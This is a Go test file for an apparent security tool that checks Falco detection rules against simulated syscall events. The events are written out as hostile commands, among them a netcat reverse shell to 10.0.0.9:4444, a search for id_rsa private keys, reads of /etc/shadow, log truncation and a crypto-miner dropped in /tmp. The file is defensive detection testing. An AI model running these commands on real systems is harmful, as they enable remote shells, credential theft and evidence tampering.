package sysevent

import (
	"os"
	"slices"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/rules"
	"github.com/vigilsec/vigil/internal/testutil"
)

// loadFalcoRules compiles Falco's upstream falco_rules.yaml for the
// syscall source; it must load without errors.
func loadFalcoRules(t testing.TB) *rules.Ruleset {
	t.Helper()
	path := testutil.SharedData(t, "falco/rules/falco_rules.yaml")
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	rs, diags := rules.Load([]rules.File{{Name: "falco_rules.yaml", Data: data}}, rules.Options{Sources: []event.Source{Source{}}})
	require.False(t, diags.HasErrors(), "%v", diags.Errors())
	return rs
}

// exec turns the world's process into cmd (comm, argv[0] path, args) and
// returns its execve event.
func (w *world) exec(t testing.TB, comm, exe string, args ...string) *Event {
	w.self.Comm, w.self.Exe, w.self.ExePath, w.self.Args = comm, exe, exe, args
	e := w.event(t, "execve")
	set(t, e, "exe", exe)
	set(t, e, "comm", comm)
	return e
}

func TestFalcoUpstreamRules(t *testing.T) {
	rs := loadFalcoRules(t)
	tests := []struct {
		rule    string
		fires   func(t testing.TB, w *world) *Event
		benign  func(t testing.TB, w *world) *Event
		outputs map[string]any // output fields of the firing event
	}{
		{
			rule: "Terminal shell in container",
			fires: func(t testing.TB, w *world) *Event {
				w.self.PPID = 100 // started by containerd-shim: the entrypoint
				return w.exec(t, "bash", "/bin/bash")
			},
			benign: func(t testing.TB, w *world) *Event {
				w.self.PPID, w.self.TTY = 100, 0
				return w.exec(t, "bash", "/bin/bash")
			},
			outputs: map[string]any{"proc.pname": "containerd-shim", "proc.cmdline": "bash", "proc.tty": uint64(34816), "evt.arg.flags": "0"},
		},
		{
			rule:  "Read sensitive file untrusted",
			fires: func(t testing.TB, w *world) *Event { return w.openEvent(t) },
			benign: func(t testing.TB, w *world) *Event {
				e := w.openEvent(t)
				e.FD.Name = "/etc/hosts"
				return e
			},
			outputs: map[string]any{"fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow -n", "evt.type": "openat"},
		},
		{
			rule:    "Clear Log Activities",
			fires:   func(t testing.TB, w *world) *Event { return logOpen(t, w, OpenWRONLY|OpenTRUNC) },
			benign:  func(t testing.TB, w *world) *Event { return logOpen(t, w, OpenWRONLY|OpenAPPEND) },
			outputs: map[string]any{"fd.name": "/var/log/syslog", "proc.name": "cat", "user.loginuid": int64(1000)},
		},
		{
			rule: "Drop and execute new binary in container",
			fires: func(t testing.TB, w *world) *Event {
				return w.exec(t, "xmrig", "/tmp/xmrig")
			},
			benign: func(t testing.TB, w *world) *Event {
				w.self.ExeUpperLayer = false
				return w.exec(t, "xmrig", "/tmp/xmrig")
			},
			outputs: map[string]any{"proc.exepath": "/tmp/xmrig"},
		},
		{
			rule: "Fileless execution via memfd_create",
			fires: func(t testing.TB, w *world) *Event {
				w.self.ExeFromMemfd = true
				return w.exec(t, "3", "memfd:payload")
			},
			benign:  func(t testing.TB, w *world) *Event { return w.exec(t, "ls", "/bin/ls") },
			outputs: map[string]any{"proc.sname": "bash", "proc.aname[2]": "containerd-shim", "evt.res": "SUCCESS", "container.start_ts": uint64(startTS)},
		},
		{
			rule: "Linux Kernel Module Injection Detected",
			fires: func(t testing.TB, w *world) *Event {
				e := w.event(t, "finit_module")
				e.Thread.CapEffective = 1<<16 | 1<<21 // CAP_SYS_MODULE, CAP_SYS_ADMIN
				return e
			},
			benign: func(t testing.TB, w *world) *Event {
				return w.event(t, "finit_module") // no CAP_SYS_MODULE
			},
			outputs: map[string]any{"proc.pexepath": "/usr/bin/bash", "proc.aexepath[2]": "/usr/bin/containerd-shim-runc-v2", "evt.res": "SUCCESS"},
		},
		{
			rule:  "PTRACE attached to process",
			fires: func(t testing.TB, w *world) *Event { return builders["ptrace"](t, w) },
			benign: func(t testing.TB, w *world) *Event {
				e := builders["ptrace"](t, w)
				set(t, e, "request", PtraceRequestFromKernel(2)) // PTRACE_PEEKDATA
				return e
			},
			outputs: map[string]any{"evt.type": "ptrace"},
		},
		{
			rule: "Netcat Remote Code Execution in Container",
			fires: func(t testing.TB, w *world) *Event {
				return w.exec(t, "nc", "/usr/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444")
			},
			benign:  func(t testing.TB, w *world) *Event { return w.exec(t, "nc", "/usr/bin/nc", "-l", "8080") },
			outputs: map[string]any{"proc.cmdline": "nc -e /bin/sh 10.0.0.9 4444"},
		},
		{
			rule:  "Search Private Keys or Passwords",
			fires: func(t testing.TB, w *world) *Event { return w.exec(t, "find", "/usr/bin/find", "/", "-name", "id_rsa") },
			benign: func(t testing.TB, w *world) *Event {
				return w.exec(t, "find", "/usr/bin/find", "/", "-name", "notes.txt")
			},
			outputs: map[string]any{"proc.cmdline": "find / -name id_rsa"},
		},
		{
			rule:    "Redirect STDOUT/STDIN to Network Connection in Container",
			fires:   func(t testing.TB, w *world) *Event { return dupTo(t, w, true) },
			benign:  func(t testing.TB, w *world) *Event { return dupTo(t, w, false) },
			outputs: map[string]any{"fd.sip": "93.184.216.34", "fd.lport": uint64(40000), "fd.rport": uint64(443), "fd.type": "ipv4", "fd.l4proto": "tcp"},
		},
		{
			rule: "Create Symlink Over Sensitive Files",
			fires: func(t testing.TB, w *world) *Event {
				e := builders["symlink"](t, w)
				set(t, e, "target", "/etc/shadow")
				return e
			},
			benign:  func(t testing.TB, w *world) *Event { return builders["symlink"](t, w) },
			outputs: map[string]any{"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/root/p"},
		},
		{
			rule:    "Packet socket created in container",
			fires:   func(t testing.TB, w *world) *Event { return socketOf(t, w, 17) },
			benign:  func(t testing.TB, w *world) *Event { return socketOf(t, w, 2) },
			outputs: map[string]any{"evt.args": "fd=6(<o>) domain=17(AF_PACKET) type=3 proto=0", "fd.lport": nil},
		},
		{
			rule:    "Execution from /dev/shm",
			fires:   func(t testing.TB, w *world) *Event { return w.exec(t, "x", "/dev/shm/x") },
			benign:  func(t testing.TB, w *world) *Event { return w.exec(t, "x", "/usr/local/bin/x") },
			outputs: map[string]any{"proc.exepath": "/dev/shm/x", "proc.pcmdline": "bash -i", "user.loginname": "alice", "group.name": "root"},
		},
	}
	ev := rs.NewEvaluator()
	names := func(e *Event) []string {
		var out []string
		for _, r := range ev.Match(e) {
			out = append(out, r.Name)
		}
		return out
	}
	for _, tc := range tests {
		t.Run(tc.rule, func(t *testing.T) {
			e := tc.fires(t, newWorld())
			got := names(e)
			require.Contains(t, got, tc.rule)
			i := slices.IndexFunc(ev.Match(e), func(r *rules.Rule) bool { return r.Name == tc.rule })
			_, fields := ev.Render(ev.Match(e)[i], e)
			for k, want := range tc.outputs {
				require.Equal(t, want, fields[k], "output field %s", k)
			}
			require.NotContains(t, names(tc.benign(t, newWorld())), tc.rule)
		})
	}
}

// logOpen opens /var/log/syslog for writing with flags.
func logOpen(t testing.TB, w *world, flags uint64) *Event {
	e := w.event(t, "openat")
	e.FD = &FD{Num: 4, Type: FDFile, Name: "/var/log/syslog", OpenFlags: flags}
	e.Res = 4
	set(t, e, "fd", 4)
	set(t, e, "dirfd", atFDCWD)
	set(t, e, "name", "/var/log/syslog")
	set(t, e, "flags", flags)
	return e
}

// dupTo is dup2(sock, 1) of a connected socket (net) or of a file.
func dupTo(t testing.TB, w *world, net bool) *Event {
	c := w.connectEvent(t)
	fd := c.FD
	if !net {
		fd = &FD{Num: 4, Type: FDFile, Name: "/tmp/out"}
	}
	e := w.event(t, "dup2")
	e.FD = fd
	e.Res = 1
	set(t, e, "res", 1)
	set(t, e, "oldfd", 4)
	set(t, e, "newfd", 1)
	return e
}

func socketOf(t testing.TB, w *world, domain uint64) *Event {
	e := w.event(t, "socket")
	e.FD = &FD{Num: 6, Type: FDUnknown}
	e.Res = 6
	set(t, e, "fd", 6)
	set(t, e, "domain", domain)
	set(t, e, "type", 3)
	return e
}
